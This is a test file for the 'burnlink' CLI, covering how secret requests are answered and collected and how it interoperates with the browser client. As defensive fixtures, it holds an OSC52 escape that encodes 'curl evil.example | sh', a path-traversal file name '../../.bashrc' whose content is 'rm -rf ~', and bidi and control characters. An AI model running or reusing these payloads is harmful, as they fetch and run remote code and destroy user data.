/**
 * `burnlink request`, `respond` and `collect` (PROTOCOL.md §7), built, as child processes,
 * against the real server on the memory store and on a real redis-server. Everything goes
 * through argv, stdin, stdout, stderr, files and exit codes, as a script would see it. The
 * interop cases play the other side with lib/api/client.ts and lib/crypto, exactly as the
 * browser does, so the CLI is shown to speak §7 and not only to itself.
 */
import { randomBytes } from "node:crypto";
import { mkdir, mkdtemp, readFile, readdir, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { ApiError, createApiClient } from "@/lib/api/client";
import { EXIT } from "@/lib/cli/exit-codes";
import {
  collectLinkProofs,
  collectToken,
  formatCollectLink,
  formatRequestLink,
  openLabel,
  openResponse,
  parseCollectLink,
  parseRequestLink,
  requestLinkProofs,
  sealRequest,
  sealResponse,
} from "@/lib/crypto";
import { startNextServer, type NextServer } from "../support/next-server";
import { startRedisServer } from "../support/redis-server";
import { buildCli, runCli, type CliResult } from "./cli-harness";

const REQUEST_LINK = /^http:\/\/127\.0\.0\.1:\d+\/r#r[A-Za-z0-9_-]{43}$/;
const COLLECT_LINK = /http:\/\/127\.0\.0\.1:\d+\/r#c[A-Za-z0-9_-]{43}/;
const CODE = /^\d{6}$/;
/** Everything that can drive a terminal: C0 (but newline), DEL, C1. */
const CONTROL = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/;
const OSC52 = "\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007";

let workDir: string;

beforeAll(async () => {
  await buildCli();
  workDir = await mkdtemp(join(tmpdir(), "burnlink-requests-"));
});

afterAll(async () => {
  await rm(workDir, { recursive: true, force: true });
});

async function freshDir(name: string): Promise<string> {
  const dir = join(workDir, `${name}-${randomBytes(4).toString("hex")}`);
  await mkdir(dir);
  return dir;
}

function expectExit(result: CliResult, code: number, stderr?: RegExp): void {
  const context = `exit ${result.code}, stdout: ${result.stdout}, stderr: ${result.stderr}`;
  expect(result.code, context).toBe(code);
  if (stderr) expect(result.stderr, context).toMatch(stderr);
}

/** The code stderr gives for answer `n`. */
function codeOf(stderr: string, n: number): string | undefined {
  return new RegExp(`Answer ${n}, received .* UTC \\(.*\\), code (\\d{6}):`).exec(stderr)?.[1];
}

interface CollectedJson {
  state: string;
  responses: {
    n: number;
    code: string;
    at: string;
    text?: string;
    files?: { name: string; path: string; bytes: number }[];
  }[];
}

const STORES = [
  { name: "memory", start: async () => ({ env: {}, stop: async () => {} }) },
  {
    name: "redis",
    start: async () => {
      const redis = await startRedisServer();
      return { env: { REDIS_URL: redis.url }, stop: () => redis.stop() };
    },
  },
];

describe.each(STORES)("requests with the CLI against the server on the $name store", (store) => {
  let server: NextServer;
  let stopStore: () => Promise<void>;

  beforeAll(async () => {
    const started = await store.start();
    stopStore = started.stop;
    // MIN_TTL_SECONDS=1: a request can expire within the test.
    server = await startNextServer({ env: { MIN_TTL_SECONDS: "1", ...started.env } });
  });

  afterAll(async () => {
    await server?.stop();
    await stopStore?.();
  });

  /** `burnlink request` that must succeed; returns both links. */
  async function request(args: string[] = []) {
    const result = await runCli(["request", "--server", server.url, ...args]);
    expectExit(result, 0);
    const requestLink = result.stdout.trimEnd();
    expect(requestLink).toMatch(REQUEST_LINK);
    const collectLink = COLLECT_LINK.exec(result.stderr)?.[0] ?? "";
    expect(result.stderr).toMatch(/keep this: it is the only way to read the answers/);
    expect(collectLink, result.stderr).not.toBe("");
    return { requestLink, collectLink, stderr: result.stderr };
  }

  /** `burnlink respond` that must succeed; returns the code it printed. */
  async function respond(
    link: string,
    args: string[] = [],
    options: Parameters<typeof runCli>[1] = {},
  ) {
    const result = await runCli(["respond", link, ...args], options);
    expectExit(result, 0);
    const code = result.stdout.trimEnd();
    expect(code).toMatch(CODE);
    expect(result.stderr).toMatch(/nothing else to send/);
    return { code, stderr: result.stderr };
  }

  it("delivers a text answer from stdin byte for byte to a pipe, with the responder's code", async () => {
    const { requestLink, collectLink } = await request(["--label", "your API key, please"]);
    const secret = "API_KEY=sk_live_123\r\nPASSWORD=pä$$wörd 😀\n\n  trailing spaces  ";
    const answered = await respond(requestLink, [], { input: secret });
    expect(answered.stderr).toContain("  | your API key, please\n");

    const collected = await runCli(["collect", collectLink]);
    expectExit(collected, 0);
    expect(collected.stdoutBytes.equals(Buffer.from(secret, "utf8"))).toBe(true);
    expect(codeOf(collected.stderr, 1)).toBe(answered.code);
    expect(collected.stderr).toMatch(
      /Collected 1 answer\. The request has received every answer it takes\./,
    );
  });

  it("collects an inbox of answers (text, stdin, files) in order, each with its code, then says nothing is new", async () => {
    const { requestLink, collectLink } = await request(["--responses", "4", "--ttl", "1h"]);
    const source = await freshDir("answer-files");
    const files = {
      id_ed25519: randomBytes(411),
      "notes with spaces.txt": Buffer.from("line one\r\nline two\n"),
      "random.bin": randomBytes(200_000),
    };
    for (const [name, bytes] of Object.entries(files)) await writeFile(join(source, name), bytes);

    const first = await respond(requestLink, ["--text", "the first answer"]);
    const second = await respond(requestLink, [], { input: "from stdin\n" });
    const third = await respond(requestLink, [...Object.keys(files), "--text", "three files"], {
      cwd: source,
    });
    const codes = [first.code, second.code, third.code];
    expect(new Set(codes).size).toBe(3);

    const target = await freshDir("inbox");
    const collected = await runCli(["collect", collectLink, "-o", target, "--json"]);
    expectExit(collected, 0);
    const report = JSON.parse(collected.stdout) as CollectedJson;
    expect(report.state).toBe("open");
    expect(report.responses.map((answer) => answer.n)).toEqual([1, 2, 3]);
    expect(report.responses.map((answer) => answer.code)).toEqual(codes);
    expect(report.responses.map((answer) => answer.text)).toEqual([
      "the first answer",
      "from stdin\n",
      "three files",
    ]);
    const saved = report.responses[2]?.files ?? [];
    expect(saved.map((file) => file.name).sort()).toEqual(Object.keys(files).sort());
    for (const file of saved) {
      const expected = files[file.name as keyof typeof files];
      expect((await readFile(file.path)).equals(expected), file.name).toBe(true);
      // The responder chose the names: they land in a fresh folder, not in the target itself.
      expect(file.path.startsWith(join(target, "burnlink-"))).toBe(true);
    }
    expect(collected.stderr).toMatch(/Saved in a new folder/);
    for (const [index, code] of codes.entries())
      expect(codeOf(collected.stderr, index + 1)).toBe(code);

    const again = await runCli(["collect", collectLink]);
    expectExit(
      again,
      EXIT.notFound,
      /nothing new to collect: no answer is waiting\. The request takes 1 more answer until/,
    );
    expect(again.stdout).toBe("");
    expect(again.stderr.trimEnd().split("\n")).toHaveLength(1);

    // The fourth answer is new: the next collect gets it alone, with --all straight into DIR.
    await writeFile(join(source, "late.txt"), "late\n");
    const fourth = await respond(requestLink, ["late.txt"], { cwd: source });
    const lateTarget = await freshDir("late");
    const late = await runCli(["collect", collectLink, "-o", lateTarget, "--all"]);
    expectExit(late, 0);
    expect(codeOf(late.stderr, 4)).toBe(fourth.code);
    expect(await readdir(lateTarget)).toEqual(["late.txt"]);
    expect(await readFile(join(lateTarget, "late.txt"), "utf8")).toBe("late\n");
    expectExit(
      await runCli(["collect", collectLink]),
      EXIT.notFound,
      /received all its 4 answers, and each was collected already/,
    );
  });

  it("collect --wait returns as soon as an answer arrives", async () => {
    const { requestLink, collectLink } = await request();
    let waiting!: () => void;
    const isWaiting = new Promise<void>((resolve) => (waiting = resolve));
    const waiter = runCli(["collect", collectLink, "--wait", "2m"], {
      timeoutMs: 150_000,
      onStderr: (text) => {
        if (text.includes("Waiting for an answer (at most 2m)…")) waiting();
      },
    });
    await isWaiting;
    const answered = await respond(requestLink, ["--text", "worth the wait"]);
    const result = await waiter;
    expectExit(result, 0);
    expect(result.stdout).toBe("worth the wait");
    expect(codeOf(result.stderr, 1)).toBe(answered.code);
  });

  it("collect --wait stops with exit 3 when the request is revoked while it waits", async () => {
    const { collectLink } = await request();
    let waiting!: () => void;
    const isWaiting = new Promise<void>((resolve) => (waiting = resolve));
    const waiter = runCli(["collect", collectLink, "--wait", "2m"], {
      timeoutMs: 150_000,
      onStderr: (text) => {
        if (text.includes("Waiting for an answer")) waiting();
      },
    });
    await isWaiting;
    const { collectKey } = parseCollectLink(collectLink);
    await createApiClient(server.url).revokeRequest(
      collectLinkProofs(collectKey).id,
      collectToken(collectKey),
    );
    const result = await waiter;
    expectExit(result, EXIT.notFound, /nothing to collect: the request was revoked/);
    expect(result.stdout).toBe("");
  });

  it("collect --wait gives up with exit 3 when no answer arrives in time", async () => {
    const { collectLink } = await request();
    const result = await runCli(["collect", collectLink, "--wait", "3s"], { timeoutMs: 60_000 });
    expectExit(result, EXIT.notFound, /waited 3s and no answer arrived; give a longer --wait/);
    expect(result.stdout).toBe("");
  });

  it("refuses answers to a full, a revoked and an expired request with exit 3 and says why", async () => {
    const full = await request();
    await respond(full.requestLink, ["--text", "only one"]);
    const refused = await runCli(["respond", full.requestLink, "--text", "one too many"]);
    expectExit(refused, EXIT.notFound, /already received every answer it asked for \(.* UTC\)/);
    expect(refused.stdout).toBe("");

    const revoked = await request();
    const { collectKey } = parseCollectLink(revoked.collectLink);
    const api = createApiClient(server.url);
    await api.revokeRequest(collectLinkProofs(collectKey).id, collectToken(collectKey));
    expectExit(
      await runCli(["respond", revoked.requestLink, "--text", "too late"]),
      EXIT.notFound,
      /the requester withdrew this request \(.* UTC\); nothing was sent/,
    );
    expectExit(
      await runCli(["collect", revoked.collectLink]),
      EXIT.notFound,
      /the request was revoked/,
    );

    const expiring = await request(["--ttl", "1s"]);
    const { publicKey } = parseRequestLink(expiring.requestLink);
    const proofs = requestLinkProofs(publicKey);
    // Poll the server (not the clock) until it says the request has expired.
    const deadline = Date.now() + 30_000;
    for (;;) {
      const gone = await api.checkRequest(proofs.id, proofs.write).then(
        () => false,
        (error: unknown) => error instanceof ApiError && error.body?.reason === "expired",
      );
      if (gone) break;
      expect(Date.now(), "the request did not expire").toBeLessThan(deadline);
      await new Promise((resolve) => setTimeout(resolve, 100));
    }
    const stdin = await runCli(["respond", expiring.requestLink], { input: "never read" });
    expectExit(stdin, EXIT.notFound, /this request expired \(.* UTC\); nothing was sent/);
    expect(stdin.stderr).not.toMatch(/instructions/);
    expectExit(
      await runCli(["collect", expiring.collectLink]),
      EXIT.notFound,
      /the request expired .* and no answer is waiting/,
    );
  });

  it("shows a hostile requester's instructions escaped, line by line, and still answers", async () => {
    const label = `line one\n${OSC52}\u009b31m\u202eline three`;
    const { requestLink, collectLink } = await request(["--label", label]);
    const answered = await respond(requestLink, ["--text", "fine"]);
    expect(answered.stderr).not.toMatch(CONTROL);
    expect(answered.stderr).toContain(
      "The requester's instructions:\n  | line one\n  | \\u001b]52;c;",
    );
    expect(answered.stderr).toContain("\\u009b31m\\u202eline three\n");
    expect((await runCli(["collect", collectLink])).stdout).toBe("fine");
  });

  it("says so when the server knows no request for a link (exit 3)", async () => {
    const key = randomBytes(32).toString("base64url");
    expectExit(
      await runCli(["respond", `${server.url}/r#r${key}`, "--text", "x"]),
      EXIT.notFound,
      /^burnlink: no such request: the link is wrong or incomplete/,
    );
    expectExit(
      await runCli(["collect", `${server.url}/r#c${key}`]),
      EXIT.notFound,
      /^burnlink: no request for this collect link/,
    );
  });

  it("refuses the wrong kind of link, and options the server does not allow, before sending anything", async () => {
    const { requestLink, collectLink } = await request();
    expectExit(
      await runCli(["respond", collectLink, "--text", "x"]),
      EXIT.usage,
      /^burnlink: this is a collect link: it reads the answers/,
    );
    expectExit(
      await runCli(["collect", requestLink]),
      EXIT.usage,
      /^burnlink: this is a request link, for the person who answers/,
    );
    expectExit(
      await runCli(["get", requestLink]),
      EXIT.usage,
      /a request link, not a share link: answer it with burnlink respond/,
    );
    expectExit(
      await runCli(["request", "--server", server.url, "--responses", "11"]),
      EXIT.usage,
      /--responses 11 is more than .* allows \(at most 10\)/,
    );
    expectExit(
      await runCli(["request", "--server", server.url, "--label", "x".repeat(5000)]),
      EXIT.refused,
      /the instructions are .* encrypted, but .* takes at most 4\.0 KiB; shorten --label/,
    );
    expectExit(
      await runCli(["respond", requestLink]),
      EXIT.usage,
      /nothing to send: stdin was empty.*burnlink respond LINK < FILE/,
    );
  });

  it("interop: a request made by the CLI is answered as the browser does, and the CLI collects it", async () => {
    const { requestLink, collectLink } = await request(["--label", "the staging certs"]);
    const { publicKey } = parseRequestLink(requestLink);
    const proofs = requestLinkProofs(publicKey);
    const api = createApiClient(server.url);
    const checked = await api.checkRequest(proofs.id, proofs.write);
    expect(openLabel(checked.label ?? "", proofs.labelKey)).toBe("the staging certs");

    const cert = randomBytes(3000);
    const sealed = sealResponse(
      {
        text: "both attached",
        files: [
          { name: "cert.pem", type: "application/x-pem-file", bytes: cert },
          // A hostile name: it must not leave the fresh folder nor reach the terminal raw.
          {
            name: `../../.bashrc${OSC52}`,
            type: "text/plain",
            bytes: new TextEncoder().encode("rm -rf ~\n"),
          },
        ],
      },
      publicKey,
    );
    await api.respondToRequest(proofs.id, {
      write: proofs.write,
      epk: sealed.epk,
      ciphertext: sealed.ciphertext,
    });

    const target = await freshDir("interop");
    const collected = await runCli(["collect", collectLink, "-o", target]);
    expectExit(collected, 0);
    expect(collected.stdout).toBe("both attached");
    expect(codeOf(collected.stderr, 1)).toBe(sealed.sas);
    expect(collected.stderr).not.toMatch(CONTROL);
    const [fresh] = await readdir(target);
    expect(fresh).toMatch(/^burnlink-\d{8}-\d{6}$/);
    const names = (await readdir(join(target, fresh ?? ""))).sort();
    expect(names).toEqual(["_._.bashrc]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==", "cert.pem"].sort());
    expect((await readFile(join(target, fresh ?? "", "cert.pem"))).equals(cert)).toBe(true);
  });

  it("interop: a request made as the browser does is answered by the CLI and opens byte for byte", async () => {
    const sealedRequest = sealRequest({ label: "send the key file" });
    const api = createApiClient(server.url);
    await api.createRequest({
      id: sealedRequest.id,
      writeVerifier: sealedRequest.writeVerifier,
      collectVerifier: sealedRequest.collectVerifier,
      label: sealedRequest.label ?? "",
      ttlSeconds: 3600,
      maxResponses: 1,
    });
    const source = await freshDir("cli-answer");
    const key = randomBytes(1234);
    await writeFile(join(source, "deploy.key"), key);
    const answered = await respond(
      formatRequestLink(server.url, sealedRequest.publicKey),
      ["deploy.key", "--text", "here it is"],
      { cwd: source },
    );
    expect(answered.stderr).toContain("  | send the key file\n");

    const proofs = collectLinkProofs(sealedRequest.collectKey);
    const collected = await api.collectResponses(proofs.id, proofs.collect);
    expect(collected.responses).toHaveLength(1);
    const opened = openResponse(
      collected.responses[0] ?? { epk: "", ciphertext: "" },
      proofs.secretKey,
    );
    expect(opened.sas).toBe(answered.code);
    expect(opened.content.text).toBe("here it is");
    expect(opened.content.files?.map((file) => file.name)).toEqual(["deploy.key"]);
    expect(Buffer.from(opened.content.files?.[0]?.bytes ?? new Uint8Array()).equals(key)).toBe(
      true,
    );
    // The collect link the browser would show opens here too, and nothing is left.
    expectExit(
      await runCli(["collect", formatCollectLink(server.url, sealedRequest.collectKey)]),
      EXIT.notFound,
      /received all its 1 answer, and each was collected already/,
    );
  });
});

describe("burnlink respond names the requester the server vouches for (SHOW_SENDER=1, PROTOCOL.md §8)", () => {
  const token = `blt_CliReq01_${randomBytes(32).toString("base64url")}`;
  let server: NextServer;

  beforeAll(async () => {
    const { createHash } = await import("node:crypto");
    const hash = createHash("sha256").update(token).digest("hex");
    server = await startNextServer({ env: { CREATE_POLICY: "token", SHOW_SENDER: "1", API_TOKENS: `ops-bot:requests:create:${hash}` } });
  });

  afterAll(async () => {
    await server?.stop();
  });

  it("prints 'Requested by' with the token's name on stderr before the instructions, and still answers", async () => {
    const made = await runCli(["request", "--server", server.url, "--label", "the deploy key"], { env: { BURNLINK_TOKEN: token } });
    expectExit(made, 0);
    const requestLink = made.stdout.trimEnd();
    expect(requestLink).toMatch(REQUEST_LINK);
    const answered = await runCli(["respond", requestLink], { input: "ssh-ed25519 AAAA" });
    expectExit(answered, 0);
    expect(answered.stdout.trimEnd()).toMatch(CODE);
    expect(answered.stderr).toContain("Requested by ops-bot (verified by this server: its word, not the link's).\nThe requester's instructions:\n  | the deploy key\n");
  });
});

describe("the sender line of burnlink respond", () => {
  it("escapes a hostile name from the server, so it cannot drive the terminal", async () => {
    const { senderLine } = await import("@/lib/cli/commands/respond");
    const line = senderLine({ expiresAt: "2026-12-01T00:00:00.000Z", responsesLeft: 1, sender: { name: `eve${OSC52}\u202e` } });
    expect(line).toMatch(/^Requested by eve\\u001b\]52;c;.*\\u0007\\u202e \(verified by this server/);
    expect(CONTROL.test(line.replace(/\n$/, ""))).toBe(false);
    expect(senderLine({ expiresAt: "2026-12-01T00:00:00.000Z", responsesLeft: 1 })).toBe("");
  });
});
